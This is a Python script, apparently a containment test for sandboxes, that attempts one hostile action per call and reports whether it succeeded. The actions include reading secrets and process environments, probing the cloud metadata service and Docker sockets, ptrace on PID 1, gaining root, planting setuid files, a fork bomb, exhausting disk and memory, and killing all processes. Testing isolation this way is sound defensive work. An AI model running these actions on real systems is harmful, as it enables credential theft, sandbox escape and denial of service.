# ruff: noqa: INP001, D103, T201, ANN401, S103, S108, S606 - it runs by itself
"""A hostile program: `hostile.py NAME FACTS` attempts one harmful thing.

It prints what it laid hands on, and as its last line `GOT` with what it did or
`STOPPED` with what stood in its way. What it takes up is bounded, so that the
machine survives when nothing stops it. Standard library only, Python 3.8+.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import glob
import json
import os
import resource
import signal
import socket
import stat
import sys
import time
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

    Facts = dict[str, Any]

MiB = 1024 * 1024
FORKS = 600
MEMORY = 2048 * MiB
DISK = 512 * MiB

_PTRACE_ATTACH = 16
_CLONE_NEWNS = 0x00020000
_CLONE_NEWUSER = 0x10000000

libc = ctypes.CDLL(None, use_errno=True)


class StoppedError(Exception):
    """Something stood in the way."""


def each(actions: Iterable[Callable[[], object]]) -> None:
    """Try every way; what stopped the last one is what is told."""
    reasons: list[str] = []
    for action in actions:
        try:
            action()
        except OSError as error:
            reasons.append(errno.errorcode.get(error.errno or 0, str(error)))
        else:
            return
    raise StoppedError(", ".join(sorted(set(reasons))) or "nothing was there")


def called(result: int) -> None:
    """Turn the C library's -1 into an error."""
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))


def show(path: str) -> None:
    with open(path, "rb") as file:
        print(file.read(MiB).decode("utf-8", "replace"))


def create(path: str) -> None:
    with open(path, "w") as file:
        file.write("written by the hostile program\n")


def connect(family: int, address: Any) -> None:
    with socket.socket(family, socket.SOCK_STREAM) as link:
        link.settimeout(2)
        link.connect(address)


def tell(outcome: str) -> None:
    print(f"\n{outcome}", flush=True)


def read_secret(facts: Facts) -> None:
    each([lambda: show(facts["secret"])])


def read_home(facts: Facts) -> None:
    each([lambda: show(facts["home_secret"])])


def read_environments(_: Facts) -> None:
    own = os.getpid()
    others = [p for p in glob.glob("/proc/[0-9]*/environ") if f"/{own}/" not in p]
    for path in others:
        with contextlib.suppress(OSError):
            show(path)
    raise StoppedError(f"{len(others)} in sight")


def read_own_environment(_: Facts) -> None:
    for path in ("/proc/self/environ", "/proc/1/environ"):
        with contextlib.suppress(OSError):
            show(path)
    print(dict(os.environ))
    raise StoppedError(f"{len(os.environ)} variables")


def write_outside(facts: Facts) -> None:
    beside = os.path.dirname(facts["outside"])
    each([lambda: create(facts["outside"]), lambda: create(beside + "/new")])


def write_system(facts: Facts) -> None:
    name = facts["marker"]
    places = ["/usr/bin", "/usr/lib", "/etc", "/bin", "/proc", "/sys", "/"]
    each([lambda at=at: create(f"{at}/{name}") for at in places])  # type: ignore[misc]


def reach_internet(_: Facts) -> None:
    each(
        [
            lambda: connect(socket.AF_INET, ("192.0.2.1", 443)),
            lambda: connect(socket.AF_INET6, ("2606:4700:4700::1111", 443)),
            lambda: ask_name_server("192.0.2.53"),
        ]
    )


def ask_name_server(address: str) -> None:
    query = b"\1\0\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(2)
        link.sendto(query, (address, 53))
        link.recv(512)


def reach_metadata(_: Facts) -> None:
    each([lambda: connect(socket.AF_INET, ("169.254.169.254", 80))])


def reach_loopback(facts: Facts) -> None:
    each([lambda: connect(socket.AF_INET, ("127.0.0.1", facts["loopback_port"]))])


def reach_host_address(facts: Facts) -> None:
    each([lambda: connect(socket.AF_INET, tuple(facts["host_address"]))])


def reach_socket_files(facts: Facts) -> None:
    paths = [facts["socket_file"], "/var/run/docker.sock", "/run/docker.sock"]
    paths += ["/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"]
    each([lambda at=at: connect(socket.AF_UNIX, at) for at in paths])  # type: ignore[misc]


def reach_abstract_socket(facts: Facts) -> None:
    each([lambda: connect(socket.AF_UNIX, "\0" + facts["abstract_socket"])])


def kill_host_process(facts: Facts) -> None:
    try:
        os.kill(facts["bystander"], signal.SIGKILL)
    except OSError as error:
        reason = errno.errorcode[error.errno or 0]
        if error.errno == errno.ESRCH:
            # The host's processes do not exist here, so this spares them.
            tell(f"STOPPED {reason}")
            os.kill(-1, signal.SIGKILL)
        raise StoppedError(reason) from error


def attack_guest(_: Facts) -> None:
    libc.ptrace.argtypes = [ctypes.c_long] * 4
    each(
        [
            lambda: called(libc.ptrace(_PTRACE_ATTACH, 1, 0, 0)),
            lambda: os.close(os.open("/proc/1/mem", os.O_RDWR)),
            lambda: os.listdir("/proc/1/fd"),
            lambda: os.close(os.open("/proc/1/fd/0", os.O_RDONLY)),
            lambda: os.close(os.open("/proc/1/fd/1", os.O_WRONLY)),
            lambda: os.listdir("/proc/1/root/"),
        ]
    )


def open_raw_socket(_: Facts) -> None:
    raw = socket.SOCK_RAW
    each(
        [
            lambda: socket.socket(socket.AF_PACKET, raw, 0x0300).close(),
            lambda: socket.socket(socket.AF_INET, raw, socket.IPPROTO_ICMP).close(),
        ]
    )


def mount_something(facts: Facts) -> None:
    target = os.path.abspath(facts["marker"])
    os.makedirs(target, exist_ok=True)
    mount = lambda: called(libc.mount(b"x", target.encode(), b"tmpfs", 0, None))  # noqa: E731
    each([mount, lambda: called(libc.unshare(_CLONE_NEWUSER | _CLONE_NEWNS))])


def change_kernel_setting(_: Facts) -> None:
    each(
        [
            lambda: write_back("/proc/sys/kernel/core_pattern"),
            lambda: write_back("/proc/sys/kernel/hostname"),
            lambda: write_back("/proc/sys/vm/overcommit_memory"),
        ]
    )


def write_back(path: str) -> None:
    # The same value: harmless where nothing stops it.
    with open(path) as setting:
        value = setting.read()
    with open(path, "w") as setting:
        setting.write(value)


def become_root(_: Facts) -> None:
    each([lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), use_set_user_id])


def use_set_user_id() -> None:
    for program in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount"):
        with contextlib.suppress(OSError):
            if os.stat(program).st_mode & stat.S_ISUID and not no_new_privileges():
                return
    raise PermissionError(errno.EPERM, "set-user-id has no effect")


def no_new_privileges() -> bool:
    with open("/proc/self/status") as status:
        return "NoNewPrivs:\t1" in status.read()


def plant_set_user_id(facts: Facts) -> None:
    path = facts["set_user_id"]
    create(path)
    try:
        os.chmod(path, 0o6755)
    except OSError as error:
        raise StoppedError(errno.errorcode[error.errno or 0]) from error
    raise StoppedError("planted")


def fork_bomb(_: Facts) -> None:
    # The children wait for a pipe's end: they go when this process does.
    reader, writer = os.pipe()
    for number in range(FORKS):
        try:
            child = os.fork()
        except OSError as error:
            name = errno.errorcode[error.errno or 0]
            raise StoppedError(f"{name} after {number}") from error
        if child == 0:
            os.close(writer)
            os.read(reader, 1)
            os._exit(0)


def fill_temporary(_: Facts) -> None:
    places = ["/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", os.path.expanduser("~")]
    each([lambda at=at: fill(f"{at}/filler") for at in places])  # type: ignore[misc]


def fill_workspace(_: Facts) -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    each([lambda: fill("filler")])


def fill(path: str) -> None:
    try:
        with open(path, "wb", buffering=0) as file:
            file.writelines(bytes(MiB) for _ in range(DISK // MiB))
    finally:
        with contextlib.suppress(OSError):
            os.unlink(path)


def fill_memory(_: Facts) -> None:
    held: list[bytearray] = []
    while len(held) * 16 * MiB < MEMORY:
        try:
            held.append(bytearray(os.urandom(4096) * (16 * MiB // 4096)))
        except MemoryError:
            taken = len(held) * 16
            del held
            raise StoppedError(f"ENOMEM after {taken} MiB") from None


def raise_limits(_: Facts) -> None:
    kinds = [resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE]
    each([lambda kind=kind: raise_limit(kind) for kind in kinds])  # type: ignore[misc]


def raise_limit(kind: int) -> None:
    free = resource.RLIM_INFINITY
    if resource.getrlimit(kind) == (free, free):
        return
    try:
        resource.setrlimit(kind, (free, free))
    except ValueError as error:
        raise PermissionError(errno.EPERM, str(error)) from error


def flood_output(_: Facts) -> None:
    piece = b"flood " * 10_000
    while True:
        os.write(1, piece)


def leave_behind(facts: Facts) -> None:
    # Its parent is gone, its session its own, its signals ignored.
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            quiet = os.open(os.devnull, os.O_RDWR)
            for descriptor in (0, 1, 2):
                os.dup2(quiet, descriptor)
            os.execv("/bin/sh", ["sh", "-c", "sleep 600; :", facts["marker"]])
        os._exit(0)
    os.wait()
    raise StoppedError("until the close")


def plant_links(facts: Facts) -> None:
    os.makedirs("loot", exist_ok=True)
    for name, target in {
        "loot/report.txt": facts["secret"],
        "loot/all": os.path.dirname(facts["secret"]),
        "loot/up": "../" * 12 + facts["secret"].lstrip("/"),
    }.items():
        with contextlib.suppress(FileExistsError):
            os.symlink(target, name)
    raise StoppedError("planted")


def plant_fifo(_: Facts) -> None:
    with contextlib.suppress(FileExistsError):
        os.mkfifo("notes.txt")
    raise StoppedError("planted")


def main() -> None:
    """Attempt one thing and tell how it went."""
    attempt: Callable[[Facts], None] = globals()[sys.argv[1]]
    started = time.monotonic()
    try:
        attempt(json.loads(sys.argv[2]))
    except StoppedError as stopped:
        tell(f"STOPPED {stopped}")
    else:
        tell(f"GOT it after {time.monotonic() - started:.1f} s")


if __name__ == "__main__":
    main()
